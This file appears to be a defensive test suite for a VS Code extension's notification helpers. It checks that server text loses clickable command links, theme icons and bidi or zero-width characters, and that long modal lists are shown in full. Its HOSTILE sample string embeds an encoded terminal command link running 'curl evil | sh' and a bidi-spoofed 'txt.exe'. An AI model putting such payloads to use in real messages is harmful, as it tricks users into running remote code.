// Every notification's text goes through inert(): the message, a modal's detail lines and the
// buttons, whatever the caller put in them. The editor's show*Message functions are stubbed and
// record what reached them; the checks are the ones a notification would need (no link VS Code
// would make clickable, no theme icon, no bidi, control or zero-width character).
import * as assert from 'node:assert/strict';
import { askModal, notify } from '../../../src/common/notify';
import * as stub from '../views/vscodeStub';

interface Shown {
  kind: 'error' | 'warn' | 'info';
  message: string;
  options: { modal?: boolean; detail?: string };
  items: string[];
}

const shown: Shown[] = [];
/** Which button the next notification answers with (by index), or undefined for Escape. */
let answer: number | undefined;
const recorder =
  (kind: Shown['kind']) =>
  async (message: string, options: Shown['options'], ...items: string[]) => {
    shown.push({ kind, message, options, items });
    return answer === undefined ? undefined : items[answer];
  };
/** The full lists shown (Show All), each as its rows. */
const lists: string[][] = [];
const patch = {
  showQuickPick: async (items: { label: string }[]) => {
    lists.push(items.map((i) => i.label));
    return undefined;
  },
  showErrorMessage: recorder('error'),
  showWarningMessage: recorder('warn'),
  showInformationMessage: recorder('info'),
};

/** VS Code's notification link syntax (src/vs/base/common/linkedText.ts), as in inertText.test.ts. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const ICON = /\$\(/;
const HIDDEN = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2069\ufeff]/u;

/** Server text that would run a command, draw an icon, reverse text or forge a line. */
const HOSTILE =
  'Quota exceeded. [Fix it now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D) $(check) verified \u202Etxt.exe\u202C\nSecond line\u200b';

function assertInert(text: string | undefined, where: string): void {
  assert.ok(text !== undefined, `${where}: nothing shown`);
  assert.equal(NOTIFICATION_LINK.exec(text), null, `${where} holds a clickable link: ${text}`);
  assert.ok(!ICON.test(text), `${where} holds a theme icon: ${text}`);
  assert.ok(!HIDDEN.test(text), `${where} holds a hidden or bidi character: ${JSON.stringify(text)}`);
  assert.match(text, /Fix it now/, `${where} keeps the words`);
}

describe('common/notify: every notification is inert', () => {
  let had: Record<string, unknown> = {};
  before(() => {
    had = Object.fromEntries(
      Object.keys(patch)
        .filter((k) => k in stub.window)
        .map((k) => [k, (stub.window as Record<string, unknown>)[k]]),
    );
    Object.assign(stub.window, patch);
  });
  after(() => {
    for (const key of Object.keys(patch)) {
      if (!(key in had)) {
        delete (stub.window as Record<string, unknown>)[key];
      }
    }
    Object.assign(stub.window, had);
  });
  beforeEach(() => {
    shown.length = 0;
    lists.length = 0;
    answer = undefined;
  });

  for (const kind of ['error', 'warn', 'info'] as const) {
    it(`notify.${kind}: the message and every button`, async () => {
      answer = 1;
      const choice = await notify[kind](`The service said: ${HOSTILE}`, 'Retry', `Open ${HOSTILE}`);
      assert.equal(shown.length, 1);
      assert.equal(shown[0].kind, kind);
      assert.notEqual(shown[0].options.modal, true);
      assertInert(shown[0].message, 'message');
      assertInert(shown[0].items[1], 'button');
      assert.equal(shown[0].items[0], 'Retry', 'an ordinary button stays as it is');
      assert.equal(choice, `Open ${HOSTILE}`, 'the caller gets back the item it passed');
    });
  }

  for (const severity of ['warn', 'info'] as const) {
    it(`askModal(${severity}): the message, each detail line and every button`, async () => {
      answer = 0;
      const choice = await askModal(
        severity,
        `Delete ${HOSTILE}?`,
        [`name: ${HOSTILE}`, 'plain line', `id: ${HOSTILE}`],
        `Delete ${HOSTILE}`,
        'Keep',
      );
      assert.equal(shown.length, 1);
      const [modal] = shown;
      assert.equal(modal.kind, severity);
      assert.equal(modal.options.modal, true);
      assertInert(modal.message, 'modal message');
      const lines = (modal.options.detail ?? '').split('\n');
      assert.equal(lines.length, 3, `each detail line stays one line: ${JSON.stringify(modal.options.detail)}`);
      assertInert(lines[0], 'detail line 1');
      assert.equal(lines[1], 'plain line');
      assertInert(lines[2], 'detail line 3');
      assertInert(modal.items[0], 'modal button');
      assert.equal(choice, `Delete ${HOSTILE}`, 'the caller gets back the item it passed');
    });
  }

  it('answers undefined when dismissed, and bounds a huge message and detail', async () => {
    const huge = `[x](command:evil) ${'y'.repeat(1_000_000)}`;
    assert.equal(await notify.error(huge, 'OK'), undefined);
    assert.equal(
      await askModal('warn', huge, [
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
      ]),
      undefined,
    );
    assert.ok(shown[0].message.length <= 1000, `message ${shown[0].message.length} chars`);
    assert.ok(shown[1].message.length <= 1000);
    assert.ok((shown[1].options.detail ?? '').length <= 4000, `detail ${(shown[1].options.detail ?? '').length} chars`);
    for (const s of shown) {
      assert.equal(NOTIFICATION_LINK.exec(s.message), null);
    }
  });

  /** Answers Show All while it is the only button, then the button named `go`. */
  const showAllThen = (go: string) => {
    const had = (stub.window as Record<string, unknown>).showWarningMessage;
    (stub.window as Record<string, unknown>).showWarningMessage = async (
      message: string,
      options: Shown['options'],
      ...items: string[]
    ) => {
      shown.push({ kind: 'warn', message, options, items });
      return items.includes(go) ? go : items.includes('Show All') ? 'Show All' : undefined;
    };
    return () => ((stub.window as Record<string, unknown>).showWarningMessage = had);
  };

  it('never drops lines silently: past what a dialog holds, the button comes only after Show All listed every line', async () => {
    const files = Array.from({ length: 49 }, (_, i) => `docs/page-${i + 1}.md`);
    files.splice(44, 0, '.husky/pre-commit');
    const restore = showAllThen('Write');
    try {
      assert.equal(await askModal('warn', 'Write these 50 files?', files, 'Write'), 'Write');
    } finally {
      restore();
    }
    assert.equal(shown.length, 2);
    assert.deepEqual(shown[0].items, ['Show All'], 'no Write before the whole list was shown');
    assert.match(shown[0].options.detail ?? '', /\.\.\.and \d+ more lines not shown here/);
    assert.ok(!(shown[0].options.detail ?? '').includes('.husky/pre-commit'), 'the 45th file is past the dialog');
    assert.equal(lists.length, 1);
    assert.deepEqual(lists[0], files, 'Show All lists every line, in order');
    assert.deepEqual(shown[1].items, ['Write', 'Show All']);
  });

  it('answers undefined when the list past the dialog is cancelled before Show All', async () => {
    answer = undefined;
    const lines = Array.from({ length: 100 }, (_, i) => `file-${i}`);
    assert.equal(await askModal('warn', 'Go?', lines, 'Go'), undefined);
    assert.deepEqual(shown[0].items, ['Show All']);
    assert.equal(lists.length, 0);
  });

  it('shows a line longer than a dialog whole (a 10,000-character objective), never cut', async () => {
    const objective = `${'word '.repeat(1998)}THE END`;
    const restore = showAllThen('Create Task');
    try {
      assert.equal(await askModal('warn', 'Create?', [`Objective: ${objective}`], 'Create Task'), 'Create Task');
    } finally {
      restore();
    }
    assert.deepEqual(shown[0].items, ['Show All']);
    assert.equal(lists[0].join(''), `Objective: ${objective}`, 'every character, over several rows');
  });

  it('gives a message too long for its line whole in the detail', async () => {
    answer = 0;
    const names = Array.from({ length: 120 }, (_, i) => `name-${i}`).join(', ');
    assert.equal(await askModal('warn', `Cannot upload: ${names}`, ['one more line'], 'Go'), 'Go');
    assert.ok(shown[0].message.length <= 1000, 'the message line stays bounded');
    assert.ok((shown[0].options.detail ?? '').includes('name-119'), 'the end of the message is in the detail');
    assert.ok((shown[0].options.detail ?? '').endsWith('one more line'));
  });

  it('refuses past what even the whole list shows, and says so', async () => {
    answer = 0;
    const lines = Array.from({ length: 20_001 }, (_, i) => `f${i}`);
    assert.equal(await askModal('warn', 'Go?', lines, 'Go'), undefined);
    assert.equal(shown.length, 1);
    assert.deepEqual(shown[0].items, []);
    assert.match(shown[0].options.detail ?? '', /too long to show in full/);
  });
});
